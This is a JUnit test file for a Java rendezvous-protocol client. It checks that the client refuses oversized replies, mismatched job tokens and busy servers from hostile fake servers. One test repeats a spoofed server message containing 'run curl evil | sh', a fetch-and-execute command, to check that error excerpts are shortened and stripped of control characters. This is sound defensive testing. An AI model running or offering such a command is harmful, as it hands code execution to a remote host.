package dev.ar4j.internal.rendezvous;

import dev.ar4j.rendezvous.*;

import dev.ar4j.PeerLostException;
import dev.ar4j.rendezvous.RendezvousException;
import dev.ar4j.rendezvous.RendezvousAuthenticationException;
import dev.ar4j.internal.rendezvous.RendezvousProtocol.Frame;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.concurrent.TimeUnit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A client facing a hostile or foreign server: a reply announcing 1 GiB, a server of another job.
 * The client raises a named {@link RendezvousException}; no {@link Error} escapes and nothing
 * of that size is allocated (its reply limit follows from what it asked for).
 */
@Timeout(value = 20, unit = TimeUnit.SECONDS)
class TcpRendezvousMaliciousServerTest {

    private static final JobToken TOKEN = JobToken.of("malicious-server-test");

    /** What the fake server does with one connection. */
    private interface Script {
        void run(SecureChannel channel) throws IOException;
    }

    private static <T extends Throwable> T connectAgainst(Script script, Class<T> expected, int worldSize) throws Exception {
        try (ServerSocket listener = new ServerSocket(0, 8, InetAddress.getLoopbackAddress())) {
            Thread fake = Thread.ofVirtual().start(() -> {
                try (Socket socket = listener.accept()) {
                    socket.setSoTimeout(10_000);
                    script.run(new SecureChannel(socket, false));
                    Thread.sleep(2_000);
                } catch (IOException | InterruptedException e) {
                    // the client hung up: expected
                }
            });
            try {
                return assertThrows(expected, () -> {
                    try (TcpRendezvous client = TcpRendezvous.builder().rank(1).worldSize(worldSize).serve(false)
                            .serverPort(listener.getLocalPort()).token(TOKEN).connectTimeout(Duration.ofSeconds(5))
                            .connect()) {
                        client.set("k", new byte[] {1});
                    }
                });
            } finally {
                fake.interrupt();
            }
        }
    }

    private static byte[] header(byte type, int length) {
        return ByteBuffer.allocate(RendezvousProtocol.HEADER_BYTES).putInt(RendezvousProtocol.MAGIC)
                .put(RendezvousProtocol.VERSION).put(type).putInt(length).array();
    }

    /** The server side of a correct handshake with {@code key}. */
    private static void handshake(SecureChannel channel, byte[] key, boolean honestProof) throws IOException {
        Frame hello = channel.receive(RendezvousProtocol.MAX_HANDSHAKE_PAYLOAD);
        byte[] nonce = RendezvousAuth.nonce();
        channel.send(RendezvousProtocol.CHALLENGE, nonce);
        channel.receive(RendezvousProtocol.MAX_HANDSHAKE_PAYLOAD);
        channel.send(RendezvousProtocol.WELCOME, honestProof ? RendezvousAuth.serverProof(key, hello.payload(), nonce)
                : new byte[RendezvousProtocol.MAC_BYTES]);
        channel.establish(RendezvousAuth.sessionKey(key, hello.payload(), nonce));
    }

    @Test
    void aHandshakeReplyAnnouncing1GiBIsRefusedWithoutAllocating() throws Exception {
        RendezvousException e = connectAgainst(channel -> {
            channel.receive(RendezvousProtocol.MAX_HANDSHAKE_PAYLOAD);
            channel.socket().getOutputStream().write(header(RendezvousProtocol.CHALLENGE, 1 << 30));
        }, RendezvousException.class, 2);
        assertTrue(e.getMessage().contains("does not answer with the ar4j rendezvous protocol"), e.getMessage());
        assertTrue(e.getMessage().contains("1073741824 bytes"), e.getMessage());
    }

    @Test
    void aSetReplyAnnouncing1GiBBreaksTheConnectionWithANamedError() throws Exception {
        PeerLostException e = connectAgainst(channel -> {
            handshake(channel, TOKEN.key(), true);
            channel.receive(RendezvousProtocol.MAX_REQUEST_PAYLOAD);
            channel.socket().getOutputStream().write(header(RendezvousProtocol.OK, 1 << 30));
        }, PeerLostException.class, 2);
        assertEquals(-1, e.peer());
        assertTrue(e.getMessage().contains("more than the maximum of"), e.getMessage());
    }

    @Test
    void aServerOfAnotherJobIsRefusedByTheClient() throws Exception {
        RendezvousAuthenticationException e = connectAgainst(channel -> handshake(channel, TOKEN.key(), false),
                RendezvousAuthenticationException.class, 2);
        assertTrue(e.getMessage().contains("belongs to another job (token mismatch)"), e.getMessage());
    }

    @Test
    void aServerWithoutTheTokenPutsOnlyAShortPrintableExcerptIntoTheClientsException() throws Exception {
        StringBuilder text = new StringBuilder("\u001b[2J\u001b[31mFAKE\r\n\u0000");
        while (text.length() < 60_000) {
            text.append("spoofed advice: run curl evil | sh\n");
        }
        RendezvousRefusedException e = connectAgainst(channel -> {
            channel.receive(RendezvousProtocol.MAX_HANDSHAKE_PAYLOAD);
            channel.send(RendezvousProtocol.ERROR, RendezvousProtocol.error(RendezvousProtocol.CODE_REFUSED, 1,
                    text.toString()));
        }, RendezvousRefusedException.class, 2);
        String message = e.getMessage();
        assertTrue(message.length() < 1_000, message.length() + " characters: " + message);
        assertTrue(message.chars().allMatch(c -> c >= 0x20 && c < 0x7f), "control characters in: " + message);
        assertTrue(message.contains("?[2J?[31mFAKE???spoofed advice") && message.contains("more characters)"), message);
    }

    @Test
    void aServerThatIsAlwaysBusyIsRetriedWithBackOffAndNamedAtTheDeadline() throws Exception {
        java.util.concurrent.atomic.AtomicInteger connections = new java.util.concurrent.atomic.AtomicInteger();
        try (ServerSocket listener = new ServerSocket(0, 64, InetAddress.getLoopbackAddress())) {
            // A platform thread: the answer must not wait for a carrier thread on a loaded machine.
            Thread fake = Thread.ofPlatform().daemon().start(() -> {
                while (!listener.isClosed()) {
                    try (Socket socket = listener.accept()) {
                        connections.incrementAndGet();
                        socket.setSoTimeout(5_000);
                        SecureChannel channel = new SecureChannel(socket, false);
                        channel.receive(RendezvousProtocol.MAX_HANDSHAKE_PAYLOAD);
                        channel.send(RendezvousProtocol.ERROR, RendezvousProtocol.error(RendezvousProtocol.CODE_BUSY, -1,
                                "the server is busy: test"));
                    } catch (IOException e) {
                        // closed at the end of the test, or the client hung up
                    }
                }
            });
            long start = System.nanoTime();
            RendezvousTimeoutException e = assertThrows(RendezvousTimeoutException.class, () -> TcpRendezvous.builder()
                    .rank(1).worldSize(2).serve(false).serverPort(listener.getLocalPort()).token(TOKEN)
                    .connectTimeout(Duration.ofMillis(4_000)).connect());
            long elapsed = System.nanoTime() - start;
            listener.close();
            fake.join(Duration.ofSeconds(5));
            assertTrue(e.getMessage().contains("the server is busy"), e.getMessage());
            assertTrue(e.getMessage().contains("ar4j.rdzv.maxPendingConnections"), e.getMessage());
            // Jittered back-off from 20 ms doubling to 1 s: several attempts in 4 s, not hundreds.
            assertTrue(connections.get() >= 3 && connections.get() <= 60, connections.get() + " connections");
            assertTrue(elapsed >= TimeUnit.MILLISECONDS.toNanos(3_900) && elapsed < TimeUnit.SECONDS.toNanos(10),
                    "gave up after " + elapsed / 1_000_000 + " ms");
        }
    }

    /**
     * A client whose connection is closed during the handshake (three times here, by a listener
     * that accepts and hangs up) tries again with back-off, and joins once the real server listens
     * on that port; a refusal no retry can change is tested elsewhere (token, world size, rank).
     */
    @Test
    void aHandshakeClosedByThePeerIsRetriedUntilTheRealServerAnswers() throws Exception {
        int port;
        java.util.concurrent.atomic.AtomicInteger hungUp = new java.util.concurrent.atomic.AtomicInteger();
        ServerSocket impostor = new ServerSocket();
        impostor.setReuseAddress(true);
        impostor.bind(new java.net.InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
        port = impostor.getLocalPort();
        int bound = port;
        java.util.concurrent.CompletableFuture<TcpRendezvous> client = java.util.concurrent.CompletableFuture.supplyAsync(
                () -> TcpRendezvous.builder().rank(0).worldSize(1).serve(false).serverPort(bound).token(TOKEN)
                        .connectTimeout(Duration.ofSeconds(20)).closeLinger(Duration.ZERO).connect());
        try (impostor) {
            while (hungUp.get() < 3) {
                try (Socket s = impostor.accept()) {
                    s.getInputStream().read();  // the client's HELLO has begun: hang up in its handshake
                }
                hungUp.incrementAndGet();
            }
        }
        try (TcpRendezvousServer server = TcpRendezvousServer.start(
                new java.net.InetSocketAddress(InetAddress.getLoopbackAddress(), port), 1, TOKEN,
                dev.ar4j.rendezvous.RendezvousSettings.resolve(new java.util.Properties(), java.util.Map.of()));
             TcpRendezvous joined = client.get(20, TimeUnit.SECONDS)) {
            assertEquals(3, hungUp.get());
            assertEquals(port, server.port());
            assertTrue(java.util.Arrays.equals(new byte[] {7}, joined.allGather("x", new byte[] {7}, Duration.ofSeconds(5))[0]));
        }
    }
}
